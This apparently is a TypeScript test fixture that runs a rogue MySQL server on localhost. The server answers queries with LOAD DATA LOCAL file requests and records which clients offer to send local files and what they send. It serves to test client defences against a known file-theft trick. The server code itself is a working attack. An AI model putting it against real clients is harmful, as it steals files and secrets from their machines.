import { createServer, type Socket } from 'node:net'
import type { AddressInfo } from 'node:net'

const LOCAL_FILES = 0x80
// Long password, database, local files, protocol 4.1, transactions, secure connection, named ways to sign in.
const CAPABILITIES = 0x1 | 0x8 | LOCAL_FILES | 0x200 | 0x2000 | 0x8000 | 0x80000
const COM_QUIT = 0x01, COM_QUERY = 0x03, COM_PREPARE = 0x16, COM_EXECUTE = 0x17, COM_CLOSE_STATEMENT = 0x19

const u16 = (value: number) => [value & 0xff, (value >> 8) & 0xff]
const packet = (sequence: number, ...payload: (number | string | readonly number[])[]) => {
  const body = Buffer.concat(payload.map((part) => (typeof part === 'number' ? Buffer.of(part) : typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))))
  return Buffer.concat([Buffer.of(body.length & 0xff, (body.length >> 8) & 0xff, body.length >> 16, sequence), body])
}

const OK = (sequence: number) => packet(sequence, [0, 0, 0, 2, 0, 0, 0])
const EOF = (sequence: number) => packet(sequence, [0xfe, 0, 0, 2, 0])
// Number 1, without columns and parameters.
const PREPARED = packet(1, [0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
const text = (value: string) => [value.length, ...Buffer.from(value)]

function handshake(): Buffer {
  return packet(0, 10, '8.4.0\0', [1, 0, 0, 0], 'abcdefgh', 0, u16(CAPABILITIES), 45, u16(2), u16(CAPABILITIES >>> 16), 21, Array(10).fill(0), 'ijklmnopqrst\0', 'mysql_native_password\0')
}

/** A result of one column and one row. */
function oneValue(name: string, value: string): Buffer {
  const column = [...text('def'), 0, 0, 0, ...text(name), 0, 0x0c, 45, 0, 0, 1, 0, 0, 0xfd, 0, 0, 0, 0, 0]
  return Buffer.concat([packet(1, 1), packet(2, column), EOF(3), packet(4, text(value)), EOF(5)])
}

export type Rogue = {
  url: string
  /** How often it asked for the file. */
  asked: number
  /** What came back, the empty packet that ends a file left out. */
  received: Buffer[]
  /** Whether each client offered to send files of its machine. */
  offered: boolean[]
  /** Of the connections on which it asked for the file, how many are still open. */
  open(): number
  stop(): Promise<void>
}

/**
 * For tests: a server that lets everybody in and answers queries with the request to send `file` of the client's machine
 * (MySQL manual, "Security Considerations for LOAD DATA LOCAL"). Queries that `honest` takes are answered as it says, or with OK; what was prepared it
 * never answers otherwise.
 */
export async function startRogue(file: string, honest: (query: string) => { name: string; value: string } | 'ok' | null = () => null): Promise<Rogue> {
  const [open, asking] = [new Set<Socket>(), new Set<Socket>()]
  const server = createServer((socket) => {
    open.add(socket)
    socket.on('error', () => undefined).on('close', () => open.delete(socket))
    socket.write(handshake())
    let state: 'signing in' | 'idle' | 'waiting for the file' = 'signing in'
    let waiting = Buffer.alloc(0)
    socket.on('close', () => asking.delete(socket))
    socket.on('data', (data) => {
      waiting = Buffer.concat([waiting, data])
      while (waiting.length >= 4 && waiting.length >= 4 + waiting.readUIntLE(0, 3)) {
        const sequence = waiting[3]!
        const body = waiting.subarray(4, 4 + waiting.readUIntLE(0, 3))
        waiting = waiting.subarray(4 + body.length)
        if (state === 'signing in') {
          rogue.offered.push((body.readUInt32LE(0) & LOCAL_FILES) !== 0)
          state = 'idle'
          socket.write(OK(sequence + 1))
        } else if (state === 'waiting for the file') {
          if (body.length > 0) rogue.received.push(Buffer.from(body))
          else {
            state = 'idle'
            socket.write(OK(sequence + 1))
          }
        } else if (body[0] === COM_QUERY || body[0] === COM_EXECUTE) {
          const answer = body[0] === COM_QUERY ? honest(body.subarray(1).toString()) : null
          if (answer !== null) socket.write(answer === 'ok' ? OK(1) : oneValue(answer.name, answer.value))
          else {
            rogue.asked++
            asking.add(socket)
            state = 'waiting for the file'
            socket.write(packet(1, 0xfb, file))
          }
        } else if (body[0] === COM_QUIT) socket.end()
        else if (body[0] !== COM_CLOSE_STATEMENT) socket.write(body[0] === COM_PREPARE ? PREPARED : OK(1))
      }
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const rogue: Rogue = {
    url: `mysql://rogue:secret@127.0.0.1:${(server.address() as AddressInfo).port}/onramp`, asked: 0, received: [], offered: [], open: () => asking.size,
    stop: () => new Promise((resolve) => {
      for (const socket of open) socket.destroy()
      server.close(() => resolve())
    }),
  }
  return rogue
}
